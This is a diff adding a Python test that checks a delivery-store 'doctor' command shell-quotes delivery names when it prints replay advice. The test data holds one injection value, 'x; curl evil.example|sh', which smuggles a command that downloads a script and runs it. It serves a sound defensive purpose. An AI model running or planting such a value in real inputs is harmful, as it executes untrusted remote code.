@@ -2,6 +2,7 @@
 
 import json
 import os
+import shlex
 import shutil
 import socket
 import sqlite3
@@ -187,6 +188,19 @@ def test_a_delivery_that_could_not_be_read_is_named(store):
     database.close()
     found = wrong(doctor(store, code=3), "deliveries")
     assert "20261101T080000.000Z-00000001" in found[0]["text"] and "replay" in found[0]["advice"]
+
+
+def test_a_command_that_names_a_delivery_is_one_command(store):
+    """Its name came from another machine."""
+    name = "x; curl evil.example|sh"
+    with sqlite3.connect(store / "health.sqlite") as database:
+        database.execute(
+            "INSERT INTO delivery (id, received, token, headers, size, packed, fingerprint, batch, version, unknown, problem) VALUES "
+            "(?, 1793520000, 'a', ?, 5, 5, 'f', NULL, 1, 1, 'The program stopped.')",
+            (name, '{"received":"2026-11-01T08:00:00Z","token":"a","sender":"iPhone","headers":{}}'))
+    database.close()
+    advice = wrong(doctor(store, code=3), "deliveries")[0]["advice"]
+    assert f"deliveries replay {shlex.quote(name)} " in advice
 
 
 def test_keys_and_devices(store):
